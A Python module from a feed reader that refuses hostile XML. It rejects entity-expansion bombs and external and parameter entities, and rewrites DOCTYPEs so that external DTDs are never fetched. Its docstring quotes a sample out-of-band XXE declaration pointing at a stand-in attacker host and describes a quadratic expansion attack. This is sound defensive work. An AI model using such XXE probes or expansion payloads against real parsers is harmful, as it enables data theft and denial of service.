"""Refuses hostile XML (entity expansion, external entities) from its prolog, before any parser,
and reads what is left of a DTD the way a processor that never fetches anything does.

Parsers differ in how they treat a DTD, and feedparser falls back to a lenient parser that
expands entities expat already refused (a flat "quadratic" entity used 10,000 times cost 7 s
and 600 MB). So the only entity declarations let through are small literal ones, such as
``<!ENTITY id "tag:example.com,">``, whose total expansion stays within a budget; anything
else is refused from the prolog, where a hostile document shows itself, and nothing is ever
expanded or fetched here.

The prolog is read the way both of feedparser's parsers read it: every ``<!ENTITY`` before
the root element counts, even one inside a comment (feedparser's own DOCTYPE rewriting finds
declarations with a regular expression that does not know about comments). ``check_text`` runs
the same check on text already decoded, so a document whose bytes look harmless in one
encoding cannot turn hostile in the encoding it is finally read in (UTF-7 is the classic).

External DTDs are never fetched, but many real feeds name one: Netscape's RSS 0.91 DTD as the
DOCTYPE's external subset, or the XHTML entity sets as external parameter entities in RDF feeds
(``<!ENTITY % HTMLlat1 PUBLIC "-//W3C//ENTITIES Latin 1 for XHTML//EN" "…xhtml-lat1.ent">
%HTMLlat1;``) so that ``&eacute;`` and ``&nbsp;`` may be used. Such a document is well-formed
XML: where a DTD has parts the processor does not read, an undeclared entity is no error. So
these declarations are not refused; ``ignore_external_dtd`` drops the parameter entities and
their references, and writes each entity name the document uses but does not declare as the
character reference the HTML entity set (which the XHTML sets and Netscape's DTD are) gives it,
or as literal text when the name is not an HTML one. Both parsers then read the same, clean
document. A parameter entity that names no entity set (``<!ENTITY % p SYSTEM
"http://attacker.example/x.dtd">``) is the shape of an out-of-band XXE probe and is refused as
before, as are external general entities, whose uses would put outside text in the feed.
"""

from __future__ import annotations

import codecs
import functools
import html.entities
import re
from dataclasses import dataclass
from typing import NoReturn
from urllib.parse import urlsplit

from reader.bom import BOMS
from reader.errors import HostileDocument

__all__ = [
    "MAX_DECLARED_ENTITY_CHARS",
    "MAX_ENTITY_DECLARATIONS",
    "MAX_FEED_BYTES",
    "EncodingHints",
    "Prolog",
    "check_prolog",
    "check_text",
    "encoding_hints",
    "ignore_external_dtd",
]

#: Feeds bigger than this are refused before anything reads them (the fetcher caps downloads too).
MAX_FEED_BYTES: int = 30 * 1024 * 1024
#: Total replacement text all entity declarations may hold.
MAX_DECLARED_ENTITY_CHARS: int = 100_000
#: More declarations than this is not a feed's DTD (the whole HTML 4 entity set is 253).
MAX_ENTITY_DECLARATIONS: int = 2_500
# Entities this short can at most roughly triple a document (``&a;`` is three characters), so
# their uses are not counted; longer ones are, and may add at most this much text, or the
# document's own length when that is more.
_SHORT_ENTITY_CHARS = 8
_MIN_EXPANSION_BUDGET = 1_000_000
# Ordinary prologs fit in the first few KB; only odd documents need more decoded.
_FIRST_WINDOW = 4096
_DECLARATION_WINDOW = 1024

# '<' (or '<?') in encodings that are not ASCII-compatible, per XML 1.0 appendix F.
_PATTERNS: tuple[tuple[bytes, str], ...] = (
    (b"\x00\x00\x00\x3c", "utf-32-be"),
    (b"\x3c\x00\x00\x00", "utf-32-le"),
    (b"\x00\x3c\x00\x3f", "utf-16-be"),
    (b"\x3c\x00\x3f\x00", "utf-16-le"),
    (b"\x4c\x6f\xa7\x94", "cp037"),
)
_DECLARED = re.compile(
    r"<\?xml\b[^>]{0,200}?\bencoding\s*=\s*[\"']([A-Za-z][A-Za-z0-9._:-]{0,40})[\"']")

# --- finding the prolog ------------------------------------------------------------------------

_ROOT = re.compile(r"<([^\W\d][\w.:-]*)")
_DOCTYPE_TOKEN = re.compile(r"[\"'\[\]>]|<!--|<\?")
_ENTITY = re.compile(r"<!ENTITY((?:[^>\"']+|\"[^\"]*\"|'[^']*')*)", re.IGNORECASE)
_ATTLIST = re.compile(r"<!ATTLIST((?:[^>\"']+|\"[^\"]*\"|'[^']*')*)", re.IGNORECASE)
_ENTITY_BODY = re.compile(r"\s*(%\s*)?([^\s\"'%>]*)\s*(.*)", re.DOTALL)
_LITERAL = re.compile(r"\s*(?:\"([^\"]*)\"|'([^']*)')")
_CHAR_REF = re.compile(r"&#(?:x([0-9A-Fa-f]+)|([0-9]+));")
_REFERENCE = re.compile(r"&(?!#)|%")
_QUOTED = r"(?:\"[^\"]*\"|'[^']*')"
_EXTERNAL_ID = re.compile(rf"(?:PUBLIC\s*({_QUOTED})\s*|SYSTEM\s*)({_QUOTED})", re.IGNORECASE)


@dataclass(frozen=True, slots=True)
class EncodingHints:
    """What the first bytes say about a document's encoding, before anything is decoded.

    ``sniffed`` comes from a byte order mark (``bom_length`` > 0) or from the byte pattern of
    ``<?`` in an encoding that is not ASCII-compatible; ``declared`` is the XML declaration's
    ``encoding`` label as written, or None.
    """

    sniffed: str | None
    bom_length: int
    declared: str | None


@dataclass(frozen=True, slots=True)
class Prolog:
    """Where the root element starts (-1 and None when the document has none), and where the
    DOCTYPE declaration starts and ends (-1 and -1 without one)."""

    root_offset: int
    root: str | None
    doctype_start: int = -1
    doctype_end: int = -1


def encoding_hints(data: bytes) -> EncodingHints:
    """The BOM / byte-pattern encoding and the declared one, read from the first KB only."""
    sniffed, bom_length = _sniff(data)
    head = data[bom_length:bom_length + _DECLARATION_WINDOW]
    try:
        text = head.decode(sniffed or "latin-1", errors="replace")
    except (LookupError, ValueError):
        text = head.decode("latin-1")
    match = _DECLARED.search(text)
    return EncodingHints(sniffed, bom_length, match.group(1) if match else None)


def check_prolog(data: bytes) -> None:
    """Raise HostileDocument if the document's DTD declares entities that are not harmless.

    Refused: parameter entities (save external ones that name an entity set, which are never
    read: see ``ignore_external_dtd``), external general entities (SYSTEM/PUBLIC), entities
    whose value refers to another entity (directly or through a character reference such as
    ``&#38;``), attribute defaults that use entities, more than MAX_ENTITY_DECLARATIONS
    declarations or MAX_DECLARED_ENTITY_CHARS of declared text, and entities whose uses in the
    document would add more than a budget of text. The prolog is decoded as the BOM, the byte
    pattern of ``<?`` or the XML declaration says (UTF-8 otherwise); only the first few KB are
    decoded unless the prolog is longer or long entities need their uses counted.
    """
    hints = encoding_hints(data)
    codec = hints.sniffed or _known_codec(hints.declared) or "utf-8"
    start = hints.bom_length
    whole = len(data) - start <= _FIRST_WINDOW
    text = _decode(data[start:start + _FIRST_WINDOW], codec)
    prolog = _find_root(text)
    if prolog.root_offset < 0 and not whole:
        text, whole = _decode(data[start:], codec), True
        prolog = _find_root(text)
    long_entities = _check_declarations(_region(text, prolog))
    if long_entities:
        _check_expansion(text if whole else _decode(data[start:], codec), long_entities)


def check_text(text: str) -> Prolog:
    """The same check on an already decoded document; returns where its root element starts."""
    prolog = _find_root(text)
    long_entities = _check_declarations(_region(text, prolog))
    if long_entities:
        _check_expansion(text, long_entities)
    return prolog


# --- decoding just enough ----------------------------------------------------------------------


def _sniff(data: bytes) -> tuple[str | None, int]:
    for bom, codec in BOMS:
        if data.startswith(bom):
            return codec, len(bom)
    for pattern, codec in _PATTERNS:
        if data.startswith(pattern):
            return codec, 0
    return None, 0


def _known_codec(label: str | None) -> str | None:
    if not label:
        return None
    try:
        return codecs.lookup(label).name
    except LookupError:
        return None


def _decode(data: bytes, codec: str) -> str:
    try:
        return data.decode(codec, errors="replace")
    except (LookupError, ValueError):  # not a text codec ("base64"), or one that always fails
        return data.decode("utf-8", errors="replace")


# --- reading the prolog ------------------------------------------------------------------------


def _find_root(text: str) -> Prolog:
    """Skip the XML declaration, processing instructions, comments and DOCTYPE to the root.

    Stray text and malformed markup are stepped over rather than taken for the root, so the
    prolog checked is never shorter than the one a lenient parser would read.
    """
    pos = 0
    doctype = (-1, -1)
    while True:
        lt = text.find("<", pos)
        if lt < 0:
            return Prolog(-1, None)
        if text.startswith("<?", lt):
            end = _after(text, "?>", lt + 2)
        elif text.startswith("<!--", lt):
            end = _after(text, "-->", lt + 4)
        elif text.startswith("<!", lt):
            if text[lt + 2:lt + 9].upper() == "DOCTYPE":
                end = _doctype_end(text, lt + 9)
                if doctype[0] < 0:
                    doctype = (lt, end)
            else:
                end = _after(text, ">", lt + 2)
        else:
            match = _ROOT.match(text, lt)
            if match:
                return Prolog(lt, match.group(1), *doctype)
            end = lt + 1
        if end < 0:
            return Prolog(-1, None)
        pos = end


def _after(text: str, marker: str, start: int) -> int:
    found = text.find(marker, start)
    return found + len(marker) if found >= 0 else -1


def _doctype_end(text: str, pos: int) -> int:
    """Offset just past the DOCTYPE's closing '>', skipping quoted literals and comments."""
    in_subset = False
    while True:
        match = _DOCTYPE_TOKEN.search(text, pos)
        if match is None:
            return -1
        token, pos = match.group(), match.end()
        if token in ("\"", "'"):
            pos = _after(text, token, pos)
        elif token == "<!--":
            pos = _after(text, "-->", pos)
        elif token == "<?":
            pos = _after(text, "?>", pos)
        elif token == "[":
            in_subset = True
        elif token == "]":
            in_subset = False
        elif not in_subset:
            return pos
        if pos < 0:
            return -1


def _region(text: str, prolog: Prolog) -> str:
    return text if prolog.root_offset < 0 else text[:prolog.root_offset]


# --- judging the declarations ------------------------------------------------------------------


def _check_declarations(prolog: str) -> dict[str, int]:
    """Refuse what is never harmless; return the long entities, whose uses must be counted."""
    if "<!" not in prolog:
        return {}
    long_entities: dict[str, int] = {}
    total = 0
    for count, match in enumerate(_ENTITY.finditer(prolog), start=1):
        name, value = _entity(match.group(1))
        total += len(value)
        if count > MAX_ENTITY_DECLARATIONS:
            _refuse(f"it declares more than {MAX_ENTITY_DECLARATIONS} entities")
        if total > MAX_DECLARED_ENTITY_CHARS:
            _refuse(f"its entities hold more than {MAX_DECLARED_ENTITY_CHARS} characters")
        if len(value) > _SHORT_ENTITY_CHARS:
            long_entities[name] = max(len(value), long_entities.get(name, 0))
    for match in _ATTLIST.finditer(prolog):
        if _REFERENCE.search(match.group(1)):
            _refuse("an attribute default uses an entity reference")
    return long_entities


def _entity(declaration: str) -> tuple[str, str]:
    """Name and replacement text of one literal entity declaration; refuse any other kind."""
    body = _ENTITY_BODY.match(declaration)
    assert body is not None  # every part of the pattern may match nothing
    parameter, name, rest = body.groups()
    if parameter and _names_entity_set(rest):
        return name, ""  # never read: ignore_external_dtd drops it
    if parameter:
        _refuse(f"it declares a parameter entity (%{name}) that names no entity set")
    if rest[:6].upper() in ("SYSTEM", "PUBLIC"):
        _refuse(f"it declares an external entity ({name})")
    literal = _LITERAL.match(rest)
    if literal is None:  # malformed: no parser can define anything from it
        return name, ""
    value = literal.group(1) if literal.group(1) is not None else literal.group(2)
    if _REFERENCE.search(value):
        _refuse(f"entity {name} refers to other entities")
    expanded = _CHAR_REF.sub(_char, value)
    if "&" in expanded or "%" in expanded:
        _refuse(f"entity {name} hides a reference in a character reference")
    return name, expanded


def _names_entity_set(rest: str) -> bool:
    """Whether an external parameter entity names a published entity set: by a public
    identifier (``-//W3C//ENTITIES Latin 1 for XHTML//EN``), or by a system identifier that is
    an entity-set file (``xhtml-lat1.ent``), as the XHTML, HTML and MathML sets are named."""
    external = _EXTERNAL_ID.fullmatch(rest.strip())
    if external is None:
        return False
    public, system = external.group(1), external.group(2)
    return public is not None or urlsplit(system[1:-1]).path.lower().endswith(".ent")


def _char(match: re.Match[str]) -> str:
    hex_digits, digits = match.groups()
    try:
        return chr(int(hex_digits, 16) if hex_digits else int(digits))
    except (ValueError, OverflowError):
        return "\ufffd"


def _check_expansion(text: str, long_entities: dict[str, int]) -> None:
    budget = max(_MIN_EXPANSION_BUDGET, len(text))
    names = sorted(long_entities, key=len, reverse=True)
    uses = re.compile("&(" + "|".join(map(re.escape, names)) + ");")
    added = 0
    for match in uses.finditer(text):
        added += long_entities[match.group(1)]
        if added > budget:
            _refuse(f"its entities would expand to more than {budget} characters")


# --- reading a DTD without its outside ---------------------------------------------------------

_NAME = r"[^\W\d][\w.:-]*"
_DOCTYPE_HEAD = re.compile(
    rf"<!DOCTYPE\s+({_NAME})(\s+(?:SYSTEM\s*{_QUOTED}|PUBLIC\s*{_QUOTED}\s*{_QUOTED}))?\s*",
    re.IGNORECASE)
_DECLARATION_BODY = rf"(?:[^>\"']|{_QUOTED})*"
# One token of an internal subset: external parameter entities (which bring in the outside),
# internal general entities (the only declarations kept), and what is dropped unread.
_SUBSET_TOKEN = re.compile(
    rf"""(?P<parameter><!ENTITY\s+%\s*{_NAME}\s+(?:SYSTEM|PUBLIC){_DECLARATION_BODY}>)
    |(?P<general><!ENTITY\s+(?P<name>{_NAME})\s*{_DECLARATION_BODY}>)
    |%{_NAME};|\s+|<!--.*?-->|<\?.*?\?>|<!(?:ELEMENT|ATTLIST|NOTATION)\b{_DECLARATION_BODY}>""",
    re.DOTALL | re.VERBOSE)
_SUBSET_END = re.compile(r"\]\s*>")
_SINGLE_QUOTED_ENTITY = re.compile(rf"<!ENTITY\s+({_NAME})\s*'([^'\"]*)'\s*>")
# Names are references except in comments, processing instructions and CDATA sections. The
# five predefined entities are no match, so escaped HTML costs no more than plain text.
_NAMED_REFERENCE = re.compile(rf"&(?!(?:amp|lt|gt|quot|apos);)({_NAME});")
_UNREFERENCED = re.compile(r"<!--|<\?|<!\[CDATA\[")
_UNREFERENCED_END = {"<!--": "-->", "<?": "?>", "<![CDATA[": "]]>"}


@dataclass(frozen=True, slots=True)
class _Doctype:
    """A DOCTYPE as the parsers are given it, and what it says about the document."""

    #: The name, the external identifier if any, and the internal general entities, one a line.
    rewritten: str
    #: Whether it names anything outside: an external subset or external parameter entities.
    external: bool
    #: The general entities the internal subset declares.
    declared: frozenset[str]


def ignore_external_dtd(text: str, prolog: Prolog) -> str:
    """``text`` as a processor reads it that fetches nothing, with a DOCTYPE both parsers
    read as XML says; a document without a DOCTYPE is returned as it is.

    The DOCTYPE keeps its name, its external identifier (feedparser tells Netscape's RSS 0.91
    from it; no parser here fetches it) and its internal general entities, each on a line of
    its own, as feedparser's own DOCTYPE rewriting needs to find them; parameter entities,
    references to them, comments and the other declarations go, unread, and line breaks are
    kept. When the DOCTYPE names anything outside, each entity the document uses without
    declaring it (outside comments, processing instructions and CDATA sections) becomes a
    character reference to what the HTML entity set gives the name, or literal text
    (``&amp;name;``) when the name is not an HTML one. A DOCTYPE these rules cannot read is
    left as it is, for the parsers' own lenient reading.
    """
    if prolog.doctype_start < 0 or prolog.root_offset < 0:
        return text
    doctype = _read_doctype(text[prolog.doctype_start:prolog.doctype_end])
    if doctype is None:
        return text
    if doctype.external:
        rest = _resolve_names(text, prolog.root_offset, doctype.declared)
    else:
        rest = text[prolog.root_offset:]
    return "".join((text[:prolog.doctype_start], doctype.rewritten,
                    text[prolog.doctype_end:prolog.root_offset], rest))


def _read_doctype(doctype: str) -> _Doctype | None:
    head = _DOCTYPE_HEAD.match(doctype)
    if head is None:
        return None
    name, identifier = head.groups()
    external = identifier is not None
    pos = head.end()
    entities: list[str] = []
    declared: set[str] = set()
    if doctype.startswith("[", pos):
        pos += 1
        while not doctype.startswith("]", pos):
            token = _SUBSET_TOKEN.match(doctype, pos)
            if token is None or token.end() == pos:
                return None
            external = external or token.group("parameter") is not None
            if token.group("general"):
                entities.append(_double_quoted(token.group("general")))
                declared.add(token.group("name"))
            pos = token.end()
        end = _SUBSET_END.match(doctype, pos)
        if end is None or end.end() != len(doctype):
            return None
    elif doctype[pos:] != ">":
        return None
    rewritten = f"<!DOCTYPE {name}{identifier or ''}"
    if entities:
        rewritten += " [\n" + "\n".join(entities) + "\n]"
    rewritten += ">" + "\n" * max(0, doctype.count("\n") - rewritten.count("\n"))
    return _Doctype(rewritten, external, frozenset(declared))


def _double_quoted(declaration: str) -> str:
    """An entity declaration with its value in double quotes, the only ones feedparser's DOCTYPE
    rewriting declares again (``<!ENTITY id 'x'>`` would be undefined for its parser)."""
    single = _SINGLE_QUOTED_ENTITY.fullmatch(declaration)
    return declaration if single is None else f'<!ENTITY {single[1]} "{single[2]}">'


def _resolve_names(text: str, pos: int, declared: frozenset[str]) -> str:
    def resolve(match: re.Match[str]) -> str:
        name = match.group(1)
        return match.group() if name in declared else _reference(name)

    pieces: list[str] = []
    while True:
        skipped = _UNREFERENCED.search(text, pos)
        stop = len(text) if skipped is None else skipped.start()
        pieces.append(_NAMED_REFERENCE.sub(resolve, text[pos:stop]))
        if skipped is None:
            break
        closing = text.find(_UNREFERENCED_END[skipped.group()], skipped.end())
        if closing < 0:
            pieces.append(text[stop:])
            break
        pieces.append(text[stop:closing])
        pos = closing
    return "".join(pieces)


@functools.lru_cache(maxsize=512)
def _reference(name: str) -> str:
    characters = html.entities.html5.get(name + ";")
    if characters is None:
        return f"&amp;{name};"
    return "".join(f"&#x{ord(character):x};" for character in characters)


def _refuse(reason: str) -> NoReturn:
    raise HostileDocument(f"refused hostile XML: {reason}")
